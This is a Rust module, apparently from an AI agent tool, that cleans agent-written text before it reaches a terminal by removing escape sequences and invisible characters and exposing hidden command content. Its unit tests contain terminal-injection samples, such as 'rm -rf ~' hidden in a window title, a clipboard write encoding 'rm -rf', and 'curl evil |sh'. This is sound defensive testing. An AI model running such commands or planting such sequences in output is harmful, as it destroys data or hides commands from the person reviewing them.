//! What agents write is hostile until shown otherwise: text made fit for a terminal.
//!
//! In: any text. Out: the same text without escape sequences, control characters and characters that reorder or hide others;
//! line breaks and tabs stay. What a terminal would have swallowed as the content of a command (a title, a link, the clipboard)
//! is shown in ‹›: nothing may be hidden from the person who decides. Also how wide a text is and how to shorten it, because tables need that of the clean text.

pub(super) use askd_core::unseen::is_invisible;

/// Text for a terminal, with its line breaks.
pub fn clean(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => match chars.peek() {
                Some('[') => {
                    chars.next();
                    show_csi(&mut chars, &mut out);
                }
                Some(']' | 'P' | 'X' | '^' | '_') => {
                    chars.next();
                    show_string(&mut chars, &mut out);
                }
                _ => {
                    let between = run(&mut chars, |c| matches!(c, ' '..='/'));
                    let last = chars.next_if(|c| !c.is_control());
                    let is_paint = match between.as_str() {
                        "" => last.is_some_and(|c| c.is_ascii_alphanumeric() || c == '='),
                        "(" | ")" => last.is_some_and(|c| c.is_ascii_uppercase() || c.is_ascii_digit()),
                        _ => false,
                    };
                    show_unless(is_paint, between, last, &mut out);
                }
            },
            '\u{9b}' => show_csi(&mut chars, &mut out),
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => show_string(&mut chars, &mut out),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\r' | '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
            '\n' | '\t' => out.push(c),
            c if c.is_control() || is_invisible(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// Text for one line: clean, and white space is one space.
pub fn one_line(text: &str) -> String {
    clean(text).split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether a text has characters that are drawn as nothing, so that it may read like another one.
pub(super) fn hides(text: &str) -> bool {
    text.contains(is_invisible) || text.contains(JOINERS) && text.replace(JOINERS, "").is_ascii()
}

/// A text in quotes, with an escape for each character that is not drawn.
pub(super) fn quoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    for c in format!("{text:?}").chars() {
        match is_invisible(c) || JOINERS.contains(&c) {
            true => out.extend(c.escape_unicode()),
            false => out.push(c),
        }
    }
    out
}

/// They are part of emoji and of some scripts; between letters of ASCII they show nothing.
const JOINERS: [char; 2] = ['\u{200c}', '\u{200d}'];

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

fn run(chars: &mut Chars<'_>, is_part: impl Fn(char) -> bool) -> String {
    std::iter::from_fn(|| chars.next_if(|c| is_part(*c))).collect()
}

/// Parameters and intermediates, then one final character. Colours and movements vanish, because no word of a shell fits into them.
fn show_csi(chars: &mut Chars<'_>, out: &mut String) {
    let between = run(chars, |c| matches!(c, ' '..='?'));
    let last = chars.next_if(|c| matches!(c, '@'..='~'));
    let numbers = between.strip_prefix('?').unwrap_or(&between);
    let is_paint = last.is_some_and(|c| c.is_ascii_alphabetic())
        && !numbers.starts_with([';', ':'])
        && numbers.bytes().all(|b| b.is_ascii_digit() || b";:".contains(&b));
    show_unless(is_paint, between, last, out);
}

fn show_unless(is_paint: bool, between: String, last: Option<char>, out: &mut String) {
    let swallowed: String = between.chars().chain(last).filter(|c| !is_invisible(*c)).collect();
    if !is_paint && !swallowed.is_empty() {
        out.extend(['‹'].into_iter().chain(swallowed.chars()).chain(['›']));
    }
}

/// A string command goes on to BEL, ST or the end of the line.
fn show_string(chars: &mut Chars<'_>, out: &mut String) {
    out.push('‹');
    while let Some(c) = chars.next_if(|c| !matches!(c, '\n' | '\r')) {
        match c {
            '\u{7}' | '\u{9c}' => break,
            '\u{1b}' => {
                chars.next_if_eq(&'\\');
                break;
            }
            c if c.is_control() || is_invisible(c) => {}
            c => out.push(c),
        }
    }
    out.push('›');
}

/// Columns on a terminal; close enough for a table.
pub(super) fn width(text: &str) -> usize {
    text.chars().map(char_width).sum()
}

fn char_width(c: char) -> usize {
    match c {
        '\u{300}'..='\u{36f}'
        | '\u{200c}'
        | '\u{200d}'
        | '\u{20d0}'..='\u{20ff}'
        | '\u{fe00}'..='\u{fe0f}' => 0,
        '\u{1100}'..='\u{115f}'
        | '\u{2e80}'..='\u{303e}'
        | '\u{3041}'..='\u{a4cf}'
        | '\u{ac00}'..='\u{d7a3}'
        | '\u{f900}'..='\u{faff}'
        | '\u{fe30}'..='\u{fe6f}'
        | '\u{ff00}'..='\u{ff60}'
        | '\u{ffe0}'..='\u{ffe6}'
        | '\u{1f300}'..='\u{1f64f}'
        | '\u{1f680}'..='\u{1f6ff}'
        | '\u{1f900}'..='\u{1faff}'
        | '\u{20000}'..='\u{3fffd}' => 2,
        _ => 1,
    }
}

/// At most `columns` wide, with an ellipsis where something was cut.
pub(super) fn shorten(text: &str, columns: usize) -> String {
    if width(text) <= columns {
        return text.to_owned();
    }
    let mut out = String::new();
    let mut used = 1;
    for c in text.chars() {
        used += char_width(c);
        if used > columns {
            break;
        }
        out.push(c);
    }
    out.truncate(out.trim_end().len());
    if columns > 0 {
        out.push('…');
    }
    out
}

/// The same for paths: the end says more than the beginning.
pub(super) fn shorten_start(text: &str, columns: usize) -> String {
    if width(text) <= columns {
        return text.to_owned();
    }
    let mut kept: Vec<char> = Vec::new();
    let mut used = 1;
    for c in text.chars().rev() {
        used += char_width(c);
        if used > columns {
            break;
        }
        kept.push(c);
    }
    if columns > 0 {
        kept.push('…');
    }
    kept.into_iter().rev().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_sequences_vanish_and_the_text_stays() {
        for (hostile, wanted) in [
            ("\u{1b}[31mred\u{1b}[0m", "red"),
            ("a\u{1b}[2J\u{1b}[1;1Hb", "ab"),
            ("\u{1b}]0;title\u{7}x", "‹0;title›x"),
            ("\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{1b}\\", "‹8;;http://evil›link‹8;;›"),
            ("\u{1b}]52;c;cm0gLXJm\u{7}clip", "‹52;c;cm0gLXJm›clip"),
            ("\u{1b}P1$r\u{1b}\\dcs", "‹1$r›dcs"),
            ("\u{9b}5Acsi", "csi"),
            ("\u{9d}0;t\u{9c}c1", "‹0;t›c1"),
            ("\u{1b}c\u{1b}(0lines", "lines"),
            ("back\u{8}\u{8}space\u{7f}", "backspace"),
            ("one\rtwo\r\nthree", "one\ntwo\nthree"),
            ("tab\tstays\nline", "tab\tstays\nline"),
            ("nul\0", "nul"),
            ("end\u{1b}", "end"),
            ("end\u{1b}[", "end"),
            ("\u{1b}\u{1b}[31mtwice", "twice"),
        ] {
            assert_eq!(clean(hostile), wanted, "{hostile:?}");
        }
    }

    #[test]
    fn nothing_that_a_terminal_obeys_is_left() {
        // Every pair of the characters that mean something, so that removing one cannot make another.
        let parts = [
            "\u{1b}", "[", "]", "P", "\u{9b}", "\u{9d}", "\u{7}", "\\", "3", "m", "\r", "\u{202e}", " ", "\n",
        ];
        for a in parts {
            for b in parts {
                for c in parts {
                    let text = clean(&format!("{a}{b}{c}x"));
                    assert!(
                        text.chars()
                            .all(|c| matches!(c, '\n' | '\t') || !(c.is_control() || is_invisible(c))),
                        "{a:?} {b:?} {c:?} gave {text:?}"
                    );
                    assert_eq!(clean(&text), text);
                }
            }
        }
    }

    #[test]
    fn no_word_of_a_shell_vanishes_with_a_sequence() {
        for (text, shown) in [
            ("rm -rf x\u{1b}[ /* -v", "rm -rf x‹ /* -v›"),
            ("curl evil \u{9b}|sh", "curl evil ‹|›sh"),
            ("a\u{1b}|b", "a‹|›b"),
            ("a\u{1b}[1;31mred\u{1b}[0m\u{1b}[?25l\u{1b}(B\u{1b}c\u{1b}[Kz", "aredz"),
            ("x\u{3164}y\u{ad}z", "xyz"),
        ] {
            assert_eq!(clean(text), shown);
        }
    }

    #[test]
    fn a_command_cannot_be_hidden_in_a_title() {
        assert_eq!(clean("ls\u{1b}]0;; rm -rf ~\nnext"), "ls‹0;; rm -rf ~›\nnext");
    }

    #[test]
    fn text_cannot_be_reordered_or_hidden() {
        assert_eq!(clean("a\u{202e}b\u{2066}c\u{200b}d\u{e0041}e\u{feff}"), "abcde");
        assert_eq!(clean("👩\u{200d}🔧"), "👩\u{200d}🔧");
    }

    #[test]
    fn one_line_is_one_line() {
        assert_eq!(one_line("  a\n\tb\u{1b}[1m \u{2028} c\u{85}d "), "a b c d");
    }

    #[test]
    fn short_is_short_also_in_wide_letters() {
        assert_eq!(shorten("abcdef", 4), "abc…");
        assert_eq!(shorten("abcd", 4), "abcd");
        assert_eq!(shorten("漢字漢字", 5), "漢字…");
        assert_eq!(shorten("abc", 0), "");
        assert_eq!(shorten_start("/home/me/app", 5), "…/app");
        assert_eq!(width("e\u{301}"), 1);
    }
}
